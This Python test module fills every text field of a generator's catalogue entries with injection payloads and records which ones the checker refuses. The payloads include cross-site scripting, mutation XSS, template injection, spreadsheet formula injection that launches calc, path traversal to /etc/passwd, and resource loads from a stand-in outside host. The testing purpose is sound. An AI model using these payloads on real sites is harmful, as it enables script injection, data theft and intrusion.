"""Texts that try to act as code, and a catalogue with each of them in every text field of every model."""

import json
import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

from pydantic import BaseModel, RootModel

from generator.checks.runner import load_catalog
from generator.model.entries import (
    Article,
    Code,
    Debug,
    Entry,
    Notice,
    Procedure,
    Product,
    Reply,
    Section,
    Setting,
    Source,
)
from generator.model.paths import Step
from generator.model.vocabulary import Actor, ClearsUp
from generator.problem import CatalogError, Loc, Problem
from generator.sources.text import HIDDEN_CHARACTERS

Data = Any
"""JSON, or a type annotation."""
OUT = "http://outside.example"
"""No server answers there; the tests record every request."""
_ESCAPE, _LINE, _TURN = "\x1b", "\u2028", "\u202e"

_TEXTS = {
    "script": "<script>HIT</script>",
    "script-from-elsewhere": "<script src=OUT/a.js></script>",
    "script-module": "<script type=module>HIT</script>",
    "out-of-title": "</title></head><script>HIT</script>",
    "out-of-script": "</script><script>HIT</script>",
    "out-of-quotes": '"><script>HIT</script>',
    "out-of-single-quotes": "'><script>HIT</script>",
    "out-of-raw-text": "</textarea></pre></code></noscript></template></style></xmp><script>HIT</script>",
    "out-of-json": '\\"};HIT;//</script><script>HIT</script>',
    "image-error": "<img src=x: onerror=HIT>",
    "attribute": '" onmouseover="HIT" onfocus="HIT" autofocus x="',
    "attribute-single": "' onmouseover='HIT' onfocus='HIT' autofocus x='",
    "svg-load": "<svg onload=HIT>",
    "svg-script": "<svg><script>HIT</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>",
    "svg-image": "<svg><image href=OUT/i.png /><use href=OUT/u.svg#x /><feImage href=OUT/f.png /></svg>",
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>',
    "math-link": "<math><maction actiontype=statusline xlink:href=javascript:HIT>x</maction></math>",
    "mutation-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
    'onerror=HIT&gt;">',
    "mutation-style": '<svg></p><style><a id="</style><img src=x: onerror=HIT>">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x: onerror=HIT>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=HIT>",
    "link-script": "<a href=javascript:HIT>x</a>",
    "link-script-tab": '<a href="jav&#x09;ascript:HIT">x</a>',
    "prose-link-script": "[x](javascript:HIT)",
    "prose-link-data": "[x](data:text/html,<script>HIT</script>)",
    "prose-link-quotes": '[<img src=x: onerror=HIT>](https://inside.example/"onmouseover="HIT)',
    "prose-reference": "[[javascript:HIT]]",
    "prose-label": "[[400|<img src=x: onerror=HIT>]] [[value:ip|<svg onload=HIT>]]",
    "prose-code": "`<script>HIT</script>` **<img src=x: onerror=HIT>** *<svg onload=HIT>*",
    "template-value": "{{ 7*191 }} {{ config }} {{ self }}",
    "template-block": "{% for x in range(3) %}HIT{% endfor %}{% include 'base.html' %}{# x #}",
    "template-browser": "{{constructor.constructor('HIT')()}} ${HIT} <%= HIT %>",
    "markdown": "# H ![x](OUT/i.png) [x]: javascript:HIT <b>_x_</b> <javascript:HIT>",
    "snippet": '--8<-- "mkdocs.yml" ;--8<-- "mkdocs.yml"',
    "admonition": '!!! danger "<img src=x: onerror=HIT>"',
    "attribute-list": "x {: onclick=HIT style=color:red #__config }",
    "directive": "::: generator.cli.main",
    "icon": ":material-skull: :smile: [TOC]",
    "entities": "&lt;script&gt;HIT&lt;/script&gt; &#60;img src=x: onerror=HIT&#62; &quot;&gt;&amp;lt;",
    "comment": "<!-- x --!><script>HIT</script> -->",
    "comment-open": "<!-- <b>",
    "cdata": "<![CDATA[ <script>HIT</script> ]]><script>HIT</script>",
    "tag-open": "<img src='OUT/dangling?",
    "script-open": "<script>HIT//",
    "quote-open": '<a title="',
    "style": '<style>@import "OUT/s.css";*{background:url(OUT/b.png)}</style>',
    "style-attribute": '<div style="background:url(OUT/b.png);position:fixed;inset:0">x</div>',
    "style-link": "<link rel=stylesheet href=OUT/l.css><link rel=prefetch href=OUT/p>"
    "<link rel=preload as=image href=OUT/q>",
    "base": "<base href=OUT/>",
    "refresh": '<meta http-equiv=refresh content="0;url=OUT/r">',
    "form": "<form action=OUT/f><input name=a onfocus=HIT autofocus><button formaction=OUT/g>x</button></form>",
    "frame": '<iframe src=OUT/i></iframe><iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    "frame-script": '<iframe src="javascript:parent.HIT"></iframe>',
    "object": "<object data=OUT/o></object><embed src=OUT/e>",
    "media": '<img src=OUT/i.png srcset="OUT/2.png 2x"><video poster=OUT/p src=OUT/v></video><audio src=OUT/a></audio>',
    "toggle": "<details open ontoggle=HIT>x</details>",
    "clobber": '<b id=__config>{"base":"OUT","search":"OUT/w.js"}</b><a id=smtpReplies></a><img name=getElementById>',
    "theme-parts": "<div class=md-overlay data-md-component=search>x</div>",
    "formula": '=HYPERLINK("OUT/x","x")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-1+1",
    "terminal": f"{_ESCAPE}[2J{_ESCAPE}]0;HIT\x07",
    "line-separator": f"x{_LINE}HIT",
    "turned": f"x{_TURN}tpircs",
    "prototype": "__proto__ constructor prototype toString hasOwnProperty",
    "address-script": "javascript:HIT",
    "address-data": "data:text/html,<script>HIT</script>",
    "address-outside": "//outside.example/x",
    "address-quotes": 'https://inside.example/"onmouseover="HIT"><script>HIT</script>',
    "path-up": "../../../../etc/passwd",
}
PAYLOADS: Mapping[str, str] = {
    name: text.replace("HIT", f"hit({number})").replace("OUT", OUT)
    for number, (name, text) in enumerate(_TEXTS.items())
}
"""The texts by name; if ``hit(17)`` runs, the test knows which text it was."""

POLYGLOT = "polyglot"
"""The name of the text for the product's fields, because there is only one product."""
TEXTS = {
    **PAYLOADS,
    POLYGLOT: "'\"></title></script></textarea><script>hit(99)</script><img src=x: onerror=hit(99)>{{ 7*191 }}",
}
NUMBERS = {name: number for number, name in enumerate(PAYLOADS)}
KINDS = ("reply", "code", "setting", "article", "procedure", "debug", "notice")
WORDS = {ClearsUp: ClearsUp.ITSELF, Actor: Actor.YOU}
"""The terms that fit a code that starts with 4 or 5 and steps that ask for something."""

Where = tuple[str, str]
"""A text field: the name of the model and the key."""


@dataclass(frozen=True)
class Slot:
    """The place of a text in an example entry."""

    where: Where
    payload: str = ""
    """The name of the text that is tried here."""


def example(model: type[BaseModel]) -> Data:
    """Return an example entry with a slot for every text and one of each kind of item in every list."""
    return {
        field.alias or name: _example(field.annotation, (model.__name__, field.alias or name))
        for name, field in model.model_fields.items()
        if not issubclass(model, Entry) or name not in ("id", "file", "loc")
    }


def _example(annotation: Data, where: Where) -> Data:
    origin, arguments = get_origin(annotation), get_args(annotation)
    if origin in (Annotated, Union, UnionType):
        return _example(next(one for one in arguments if one is not type(None)), where)
    if origin is tuple:
        return [_example(option, where) for option in _options(arguments[0])]
    if annotation is Step:
        return {"chapter" if where[0] == "Section" else "tab": Slot(("Step", "label"))}
    if issubclass(annotation, Enum):
        return WORDS.get(annotation, next(iter(annotation))).value
    if issubclass(annotation, (str, RootModel)):
        return Slot(where)
    return example(annotation)


def _options(annotation: Data) -> list[Data]:
    """Return the kinds of items that a list may contain."""
    if get_origin(annotation) is Annotated:
        return _options(get_args(annotation)[0])
    return list(get_args(annotation)) if get_origin(annotation) in (Union, UnionType) else [annotation]


def fill(data: Data, text: Callable[[Loc, Slot], Data], loc: Loc = ()) -> Data:
    """Return an example with another value in each slot."""
    if isinstance(data, dict):
        return {key: fill(value, text, (*loc, key)) for key, value in data.items()}
    if isinstance(data, list):
        return [fill(value, text, (*loc, index)) for index, value in enumerate(data)]
    return text(loc, data) if isinstance(data, Slot) else data


def slots(data: Data) -> list[tuple[Loc, Slot]]:
    """Return all slots of an example and where they are."""
    collected: list[tuple[Loc, Slot]] = []
    fill(data, lambda loc, slot: collected.append((loc, slot)))
    return collected


def address_of(kind: str, name: str) -> str:
    """Return the address of the page whose texts are one payload."""
    number, code = NUMBERS[name], _code(name)
    return {
        "reply": f"codes/{code}/p/",
        "code": f"codes/{code}/",
        "setting": f"settings/g/s{number}/",
        "article": f"articles/A{number}/",
        "procedure": f"procedures/p{number}/",
        "debug": f"debug/ME-E{number:04}/",
        "notice": f"notices/n{number}/",
    }[kind]


def _code(name: str) -> str:
    hundred, rest = divmod(NUMBERS.get(name, 0), 60)
    return str(400 + rest + 100 * hundred)


def _harmless(slot: Slot) -> str:
    """Return the text for a field that refuses the payload."""
    number = NUMBERS.get(slot.payload, 0)
    wording = f"only{number} reply{number} ME-E{number:04}"
    by_key = {
        **dict.fromkeys(("feature", "settings", "overridden_by"), f"g/s{number}"),
        **dict.fromkeys(("related", "successor"), "400/p"),
        **dict.fromkeys(("source", "sources"), f"n{number}"),
        "debug": f"ME-E{number:04}",
        "aliases": f"400/old-{number}",
        "procedure": f"p{number}",
        "article": f"A{number}",
        "section": f"g/m{number}",
        "rfc": "5321#4.2.2",
        "read": "2026-11-27",
        "url": "https://inside.example/",
        "article_url": "https://inside.example/kb?ID={id}",
        "origin": "A0",
        "editions": "An edition.",
        "in": "SMTP-IN",
        "out": "SMTP-OU",
    }
    by_model = {
        ("ArticleUse", "id"): f"A{number}",
        ("Wording", "text"): wording,
        ("Sample", "line"): f"{_code(slot.payload)} {wording}",
        ("Setting", "editions"): "A text.",
    }
    return by_model.get(slot.where) or by_key.get(slot.where[1], "A text.")


def _hostile(slot: Slot) -> str:
    """Return the payload for a field; a wording also needs unique words, and a sample its wording and debug code."""
    payload, number = TEXTS[slot.payload], NUMBERS.get(slot.payload, 0)
    wording = f"{payload} only{number} reply{number} ME-E{number:04}"
    return {("Wording", "text"): wording, ("Sample", "line"): f"{_code(slot.payload)} {wording}"}.get(
        slot.where, payload
    )


@dataclass
class HostileFile:
    """A file of the catalogue: its data with slots, and the slots whose payload ``check`` refused."""

    path: Path
    data: Data
    harmless: set[Loc] = field(default_factory=set)

    def write(self) -> None:
        """Write the file as JSON, which is YAML, with one text per line."""
        self.path.parent.mkdir(parents=True, exist_ok=True)
        texts = fill(self.data, lambda loc, slot: _harmless(slot) if loc in self.harmless else _hostile(slot))
        self.path.write_text(json.dumps(texts, indent=1), "utf-8")

    def slot_at(self, problem: Problem) -> tuple[Loc, Slot]:
        """Return the slot that a problem is about: the one on its line or the next one below."""
        numbers = iter(range(10_000))
        lines = json.dumps(fill(self.data, lambda *_: f"@{next(numbers)}@"), indent=1).split("\n")
        number = re.findall("@([0-9]+)@", "\n".join(lines[problem.position.line - 1 :]))[0]
        return slots(self.data)[int(number)]


def write_catalog(folder: Path, names: Iterable[str] = PAYLOADS, product: str = POLYGLOT) -> list[HostileFile]:
    """Write a catalogue with each payload in every text field of an entry of each kind."""

    def entry(model: type[Entry], name: str) -> Data:
        return fill(example(model), lambda _, slot: Slot(slot.where, name))

    product_data = entry(Product, product)
    visible = [name for name in names if not HIDDEN_CHARACTERS.search(TEXTS[name])]
    editions = [TEXTS[name] for name in visible if name != product]
    product_data["editions"] += ["A text.", *editions]  # a setting's editions are among them
    files = [HostileFile(folder / "product.yml", product_data)]
    for name in names:
        number, code = NUMBERS[name], _code(name)
        files += [
            HostileFile(folder / f"{code}/p.yml", entry(Reply, name)),
            HostileFile(folder / f"{code}/code.yml", entry(Code, name)),
            HostileFile(folder / f"settings/g/s{number}.yml", entry(Setting, name)),
            HostileFile(folder / f"procedures/p{number}.yml", entry(Procedure, name)),
            HostileFile(folder / f"debug/ME-E{number:04}.yml", entry(Debug, name)),
            HostileFile(folder / f"notices/n{number}.yml", entry(Notice, name)),
        ]
    for file, model, key in (("articles", Article, "A{}"), ("manual", Section, "g/m{}"), ("sources", Source, "n{}")):
        entries = {key.format(NUMBERS[name]): entry(model, name) for name in names}
        files.append(HostileFile(folder / f"{file}.yml", entries))
    for file in files:
        file.write()
    return files


@dataclass
class HostileCatalog:
    """A catalogue of payloads, and which of them ``check`` accepted and refused in which fields."""

    codes: Path
    accepted: set[tuple[Where, str]]
    refused: dict[tuple[Where, str], Problem]


def hostile_catalog(folder: Path, names: Iterable[str] = PAYLOADS, product: str = POLYGLOT) -> HostileCatalog:
    """Write a catalogue that ``check`` accepts: where it refuses a payload, a harmless text replaces it."""
    files = {
        f"{folder.name}/{file.path.relative_to(folder).as_posix()}": file
        for file in write_catalog(folder, tuple(names), product)
    }
    refused: dict[tuple[Where, str], Problem] = {}
    while problems := _problems(folder):
        located = [(problem, files[problem.path], *files[problem.path].slot_at(problem)) for problem in problems]
        assert [problem for problem, file, loc, _ in located if loc in file.harmless] == []
        for problem, file, loc, slot in located:
            refused[slot.where, slot.payload] = problem
            file.harmless.add(loc)
        for path in {problem.path for problem in problems}:
            files[path].write()
    accepted = {
        (slot.where, slot.payload)
        for file in files.values()
        for loc, slot in slots(file.data)
        if loc not in file.harmless
    }
    return HostileCatalog(folder, accepted, refused)


def _problems(folder: Path) -> Sequence[Problem]:
    try:
        load_catalog(folder)
    except CatalogError as error:
        return error.problems
    return ()
